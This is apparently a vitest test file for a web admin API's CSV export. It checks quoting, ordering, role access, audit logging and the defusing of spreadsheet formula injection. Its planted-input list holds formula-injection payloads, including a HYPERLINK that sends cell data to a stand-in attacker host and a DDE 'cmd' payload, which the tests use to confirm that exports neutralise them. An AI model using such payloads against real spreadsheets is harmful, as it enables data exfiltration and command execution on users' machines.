// CSV export of a list's current view: every matching row in the list's own order (across the export's batches),
// the list call's roles only, a users-log row per export, and cells a spreadsheet reads as text, never formulas.
import { expect, it } from 'vitest';
import { csvField, EXPORT_BATCH } from '../../server/crud/export.ts';
import { forEachDialect, ADMIN, type Harness } from './harness.ts';

/** RFC 4180 reader: quoted fields with doubled quotes and line breaks, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field || record.length) {
    record.push(field);
    records.push(record);
  }
  return records;
}

/**
 * The cells a spreadsheet sees when it opens `text` with `delimiter`, as Excel reads a CSV file: a quote opens a
 * quoted field only at a field's start (`""` inside is a quote), text after its closing quote is kept, and a
 * quote elsewhere is a character. `naive` reads with no quoting at all (every delimiter and line break splits).
 */
function cellsAs(text: string, delimiter: string, naive = false): string[] {
  if (naive) return text.split(/\r\n|\n|\r/).flatMap((line) => line.split(delimiter));
  const cells: string[] = [];
  let field = '';
  let fieldStart = true;
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && fieldStart) {
      quoted = true;
      fieldStart = false;
    } else if (ch === delimiter || ch === '\n' || ch === '\r') {
      cells.push(field);
      field = '';
      fieldStart = true;
    } else {
      field += ch;
      fieldStart = false;
    }
  }
  cells.push(field);
  return cells;
}

/** Cells a spreadsheet would run as a formula: = + - @ first, past spaces and quotes (not a plain number). */
const liveFormulas = (cells: string[]) =>
  cells.filter((cell) => /^[=+\-@]/.test(cell.replace(/^[\s"]+/, '')) && !/^[+-]?\d+(\.\d+)?$/.test(cell.trim())).length;

async function exportCsv(h: Harness, path: string, query: Record<string, string | number>, token = h.tokens.admin) {
  const response = await h.app.inject({ method: 'GET', url: `${path}/export.csv?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`, headers: { authorization: token } });
  return { status: response.statusCode, headers: response.headers, body: response.body };
}

it('quotes fields by RFC 4180 and defuses text a spreadsheet would run as a formula', () => {
  expect(csvField('plain')).toBe('plain');
  expect(csvField('a,b "c"')).toBe('"a,b ""c"""');
  expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  expect(csvField('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
  expect(['+1', '-1+2', '@SUM(A1)', '\tx'].map(csvField)).toEqual(["'+1", "'-1+2", "'@SUM(A1)", `"'\tx"`]);
  expect(csvField(-5)).toBe('-5');
});

it('defuses a formula that starts after a delimiter a spreadsheet may read the file with, or after a line break', () => {
  expect(csvField('a;=SUM(A1)')).toBe(`"a;'=SUM(A1)"`);
  expect(csvField('a\t+1')).toBe(`"a\t'+1"`);
  expect(csvField('a, -1+2')).toBe(`"a, '-1+2"`);
  expect(csvField('a;"@SUM(A1)"')).toBe(`"a;""'@SUM(A1)"""`);
  expect(csvField('two\n=lines')).toBe(`"two\n'=lines"`);
  expect(csvField('a;b 1-2 x@y.io')).toBe('"a;b 1-2 x@y.io"');
});

/** What the audit planted through anonymous device reports: formulas at a field's start and after each delimiter. */
const PLANTED = [
  '=HYPERLINK("http://evil.example/?"&A1,"help")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  'x;=1+1',
  'x\t=1+1',
  'x,=1+1',
  'x;"=1+1"',
  'x; =1+1',
  'x\n=1+1',
  'x\r\n@SUM(1)',
  'a;b;-3+4;+5+6',
  'a,"b;=1+1",c',
  '"";=1+1',
  'x;""=1+1',
];

forEachDialect('CSV export', (h) => {
  it('exports every row the filters match, with the column titles, values as the list shows them', async () => {
    for (const name of ['export-a', 'export-b', '=HYPERLINK("http://evil")', 'other', 'export, "quoted"']) {
      expect((await h.admin('GET', '/v1/admin/platform/add', { query: { name, maxVersion: '01.02.03' } })).status).toBe(200);
    }
    const evil = await h.admin('GET', '/v1/admin/platform/get', { query: { name: 'HYPER' } });
    const response = await exportCsv(h, '/v1/admin/platform/get', { name: 'export', sortBy: 'name', sortOrder: 'desc', page: 3, pageSize: 1 });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="platform-[\d-]+\.csv"$/);
    const [head, ...rows] = parseCsv(response.body.replace(/^\ufeff/, ''));
    expect(head).toEqual(['id', 'Name', 'Max version', 'Created', 'Updated']);
    expect(rows.map((r) => r[1])).toEqual(['export-b', 'export-a', 'export, "quoted"']);
    expect(rows[0][2]).toBe('01.02.03');
    expect(rows[0][3]).toMatch(/^\d{4}-\d\d-\d\dT/);
    const defused = parseCsv((await exportCsv(h, '/v1/admin/platform/get', { name: 'HYPER' })).body.replace(/^\ufeff/, ''));
    expect(defused[1]).toEqual([String(evil.body.data.rows[0].id), `'=HYPERLINK("http://evil")`, '01.02.03', expect.any(String), expect.any(String)]);
  });

  it('keeps the list order across its batches, NULLs where the list puts them, in both directions', async () => {
    const engine = h.app.engine;
    const total = EXPORT_BATCH * 2 + 321;
    const rows = Array.from({ length: total }, (_, i) => ({
      userId: i % 7 === 0 ? null : i % 13,
      userRole: 'admin',
      userEmail: `bulk${i}@test.io`,
      baseUrl: '/v1/bulk/export',
      routePath: 'get',
      createdAt: new Date(Date.UTC(2025, 0, 1, 0, 0, i)).toISOString(),
    }));
    for (let i = 0; i < rows.length; i += 500) await engine.db.insertInto('user_logs').values(rows.slice(i, i + 500)).execute();
    for (const sortOrder of ['asc', 'desc']) {
      const query = { baseUrl: '/v1/bulk/', sortBy: 'userId', sortOrder };
      const listed: number[] = [];
      for (let page = 1; listed.length < total; page++) {
        const reply = await h.admin('GET', '/v1/admin/userlogs/get', { query: { ...query, page, pageSize: 1000 } });
        listed.push(...reply.body.data.rows.map((r: { id: number }) => r.id));
      }
      const exported = parseCsv((await exportCsv(h, '/v1/admin/userlogs/get', query)).body.replace(/^\ufeff/, '')).slice(1);
      expect(exported.map((r) => Number(r[0]))).toEqual(listed);
    }
    const byDefault = parseCsv((await exportCsv(h, '/v1/admin/userlogs/get', { baseUrl: '/v1/bulk/' })).body.replace(/^\ufeff/, '')).slice(1);
    const ids = byDefault.map((r) => Number(r[0]));
    expect(ids).toHaveLength(total);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
  });

  it('exports device reports with planted formulas so that no delimiter (, ; tab), quoted or not, gives a live formula', async () => {
    for (const [i, text] of PLANTED.entries()) {
      const body = { appInstallId: `planted-${i}`, login: text, email: text, version: text.slice(0, 50), userId: text, whitelabel: text, platform: text };
      expect((await h.call('POST', '/v1/appinfo/report', { body })).status).toBe(200);
    }
    const csv = (await exportCsv(h, '/v1/admin/appinfo/get', { appInstallId: 'planted-' })).body.replace(/^\ufeff/, '');
    const counts = Object.fromEntries([',', ';', '\t'].flatMap((d) => [[d, liveFormulas(cellsAs(csv, d))], [`${d} unquoted`, liveFormulas(cellsAs(csv, d, true))]]));
    expect(counts).toEqual({ ',': 0, ', unquoted': 0, ';': 0, '; unquoted': 0, '\t': 0, '\t unquoted': 0 });
    // Read with `,` (the file's own delimiter), every planted text is there, only defused with apostrophes.
    const [head, ...rows] = parseCsv(csv);
    const login = head.indexOf('Login');
    expect(rows.map((r) => r[login].replace(/'/g, '')).sort()).toEqual(PLANTED.map((t) => t.replace(/'/g, '')).sort());
  });

  it('admits exactly the roles of the list call', async () => {
    expect((await exportCsv(h, '/v1/admin/platform/get', {}, h.tokens.tester)).status).toBe(200);
    expect((await exportCsv(h, '/v1/admin/platform/get', {}, h.tokens.customercare)).status).toBe(403);
    expect((await exportCsv(h, '/v1/admin/userlogs/get', {}, h.tokens.developer)).status).toBe(403);
    expect((await exportCsv(h, '/v1/admin/platform/get', {}, 'not-a-token')).status).toBe(401);
  });

  it('refuses what the list refuses: an undeclared sort or parameter', async () => {
    const sort = await exportCsv(h, '/v1/admin/platform/get', { sortBy: 'secret' });
    expect(sort.status).toBe(400);
    expect((await exportCsv(h, '/v1/admin/platform/get', { color: 'red' })).status).toBe(400);
  });

  it('writes a users-log row saying who exported which list with which filters and sort', async () => {
    await exportCsv(h, '/v1/admin/platform/get', { name: 'export', sortBy: 'name', sortOrder: 'desc' });
    const logged = (await h.admin('GET', '/v1/admin/userlogs/get', { query: { baseUrl: '/v1/admin/platform/get' } })).body.data.rows[0];
    expect(logged).toMatchObject({
      userEmail: ADMIN.email,
      baseUrl: '/v1/admin/platform/get',
      routePath: 'export.csv',
      entity: 'platform',
      outcome: null,
      detail: 'CSV export of platform.list; filters {"name":"export"}; sort name desc',
    });
  });
});
